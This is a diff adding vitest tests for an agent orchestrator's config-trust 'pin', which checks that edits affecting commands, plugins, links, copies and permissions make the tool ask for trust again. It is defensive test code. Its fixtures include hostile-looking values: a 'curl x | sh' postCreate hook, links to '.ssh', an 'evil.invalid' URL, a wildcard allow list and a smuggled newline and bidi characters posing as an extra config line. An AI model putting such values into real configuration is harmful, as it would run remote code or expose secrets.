@@ -1,0 +1,150 @@
+import { describe, expect, it } from "vitest";
+import { configSandbox } from "./config-sandbox.ts";
+import { diffTrust } from "./trust.ts";
+
+const BASE = `
+port: 3000
+plugins: [{ path: ./plugins/fast.ts }]
+defaults: { runtime: tmux, notifiers: [desktop] }
+notifiers:
+  slack: { plugin: slack, token: "\${SLACK_TOKEN}", channel: "#agents" }
+  hook: { plugin: webhook, url: "https://me:pa55word@example.invalid/x", secret: written-out }
+projects:
+  shop:
+    agent: command
+    agentConfig: { command: my-agent, args: [--task, "{prompt}"], permissions: edits, allow: [npm test], model: big }
+    scm: { plugin: local, ci: [{ name: test, run: "npm test \${X}" }], requiredReviews: 1 }
+    symlinks: [.cache]
+    copy: [.env]
+    postCreate: [npm ci]
+    preDestroy: [docker compose down]
+    worktreeDir: ~/trees
+    agentRules: "Say \${please}."
+    reactions: { ci-failed: { retries: 2 } }
+`;
+
+/** The trust that a text has after BASE was trusted. */
+function after(change: (text: string) => string, local = ""): { isTrusted: boolean; diff: string[] } {
+  const sandbox = configSandbox(BASE);
+  const trusted = sandbox.load().trust;
+  sandbox.trust();
+  sandbox.write("repo/agent-orchestrator.yaml", change(BASE));
+  if (local !== "") sandbox.write("repo/agent-orchestrator.local.yaml", local);
+  const { trust } = sandbox.load();
+  return { isTrusted: trust.isTrusted, diff: diffTrust(trusted.text, trust.text) };
+}
+
+describe("the pin", () => {
+  it("is over exactly what runs, loads, links, copies or connects, in words a human can read", () => {
+    const { trust } = configSandbox(BASE).load();
+    expect(trust.isTrusted).toBe(false);
+    expect(trust.pin).toMatch(/^[0-9a-f]{64}$/);
+    expect(trust.text.split("\n")).toEqual([
+      'defaults.runtime: "tmux"',
+      'notifiers.hook.plugin: "webhook"',
+      'notifiers.hook.secret: "sha256:46d2a71061417dea"',
+      'notifiers.hook.url: "https://sha256:55920fd46823e3ce@example.invalid/x"',
+      'notifiers.slack.channel: "#agents"',
+      'notifiers.slack.plugin: "slack"',
+      'notifiers.slack.token: "${SLACK_TOKEN}"',
+      'plugins.0.path: "./plugins/fast.ts"',
+      'projects.shop.agent.plugin: "command"',
+      'projects.shop.agentConfig.allow.0: "npm test"',
+      'projects.shop.agentConfig.args.0: "--task"',
+      'projects.shop.agentConfig.args.1: "{prompt}"',
+      'projects.shop.agentConfig.command: "my-agent"',
+      'projects.shop.agentConfig.permissions: "edits"',
+      'projects.shop.copy.0: ".env"',
+      'projects.shop.postCreate.0: "npm ci"',
+      'projects.shop.preDestroy.0: "docker compose down"',
+      'projects.shop.scm.ci.0.name: "test"',
+      'projects.shop.scm.ci.0.run: "npm test ${X}"',
+      'projects.shop.scm.plugin: "local"',
+      'projects.shop.symlinks.0: ".cache"',
+      'projects.shop.worktreeDir: "~/trees"',
+      "environment: SLACK_TOKEN",
+    ]);
+  });
+
+  it.each<[string, (text: string) => string]>([
+    ["a comment", (text) => `# hello\n${text}`],
+    ["the dashboard's port", (text) => text.replace("3000", "3001")],
+    ["who is notified", (text) => text.replace("[desktop]", "[slack]")],
+    ["rules for the agent", (text) => text.replace("Say", "Tell")],
+    ["a reaction", (text) => text.replace("retries: 2", "retries: 5")],
+    ["the model", (text) => text.replace("model: big", "model: small")],
+    ["required reviews", (text) => text.replace("requiredReviews: 1", "requiredReviews: 2")],
+    ["a cleanup delay", (text) => `${text}\ncleanup: { done: 1d }\n`],
+    ["the order of keys and the style", (text) => text.replace("agent: command", "agent: { plugin: 'command' }")],
+  ])("outlives an edit of %s", (_, change) => {
+    expect(after(change)).toEqual({ isTrusted: true, diff: [] });
+  });
+
+  it.each<[string, (text: string) => string, string[]]>([
+    [
+      "a plugin",
+      (text) => text.replace("fast.ts", "slow.ts"),
+      ['- plugins.0.path: "./plugins/fast.ts"', '+ plugins.0.path: "./plugins/slow.ts"'],
+    ],
+    [
+      "postCreate",
+      (text) => text.replace("[npm ci]", "[npm ci, curl x | sh]"),
+      ['+ projects.shop.postCreate.1: "curl x | sh"'],
+    ],
+    ["preDestroy", (text) => text.replace("compose down", "compose up"), []],
+    ["a CI command", (text) => text.replace('"npm test', '"npm run test'), []],
+    [
+      "ciSetup",
+      (text) => text.replace("requiredReviews", "ciSetup: evil, requiredReviews"),
+      ['+ projects.shop.scm.ciSetup: "evil"'],
+    ],
+    ["the agent", (text) => text.replace("agent: command", "agent: codex"), []],
+    ["the agent's program", (text) => text.replace("my-agent", "your-agent"), []],
+    ["the agent's arguments", (text) => text.replace("--task", "--yolo"), []],
+    ["permissions", (text) => text.replace("permissions: edits", "permissions: skip"), []],
+    ["what the agent may run", (text) => text.replace("allow: [npm test]", "allow: ['*']"), []],
+    ["the runtime", (text) => text.replace("runtime: tmux", "runtime: docker"), []],
+    ["a link", (text) => text.replace("[.cache]", "[.ssh]"), []],
+    ["a copy", (text) => text.replace("[.env]", "[.env, secrets]"), []],
+    ["where checkouts go", (text) => text.replace("~/trees", "/srv"), []],
+    ["a URL", (text) => text.replace("example.invalid", "evil.invalid"), []],
+    ["a secret that is written out", (text) => text.replace("written-out", "other-value"), []],
+    ["the password in a URL", (text) => text.replace("pa55word", "pa55w0rd"), []],
+    [
+      "a variable to read",
+      (text) => text.replace("port: 3000", "port: ${DASH_PORT:-3000}"),
+      ["- environment: SLACK_TOKEN", "+ environment: DASH_PORT SLACK_TOKEN"],
+    ],
+    ["another project", (text) => `${text}  web: { path: ~/web }\n`, ['+ projects.web.path: "~/web"']],
+  ])("asks again, with the difference, after a change of %s", (_, change, expected) => {
+    const { isTrusted, diff } = after(change);
+    expect(isTrusted).toBe(false);
+    expect(diff.length).toBeGreaterThan(0);
+    for (const line of expected) expect(diff).toContain(line);
+  });
+
+  it("covers the local file too: it stands in the same folder and may have been committed by anybody", () => {
+    const { isTrusted, diff } = after((text) => text, "projects: { shop: { postCreate: [evil] } }\n");
+    expect(isTrusted).toBe(false);
+    expect(diff).toEqual(['- projects.shop.postCreate.0: "npm ci"', '+ projects.shop.postCreate.0: "evil"']);
+  });
+
+  it("does not cover the user's own settings, and these stay in force without trust", () => {
+    const sandbox = configSandbox("projects: { shop: {} }");
+    sandbox.trust();
+    sandbox.write("home/config.yaml", "defaults: { agent: codex }\nplugins: [{ path: ./mine.ts }]\n");
+    expect(sandbox.load().trust.isTrusted).toBe(true);
+    sandbox.distrust();
+    expect(sandbox.load().plugins).toMatchObject([{ path: "./mine.ts", dir: sandbox.home, isTrusted: true }]);
+  });
+
+  it("spells out what can't be seen, and lets no value pose as another line", () => {
+    const { text } = configSandbox(
+      'projects: { shop: { postCreate: ["npm ci\\u200b\\u202e", "a\\nprojects.shop.copy.0: \\"x\\""] } }',
+    ).load().trust;
+    expect(text.split("\n")).toEqual([
+      'projects.shop.postCreate.0: "npm ci\\u200b\\u202e"',
+      'projects.shop.postCreate.1: "a\\nprojects.shop.copy.0: \\"x\\""',
+    ]);
+  });
+});
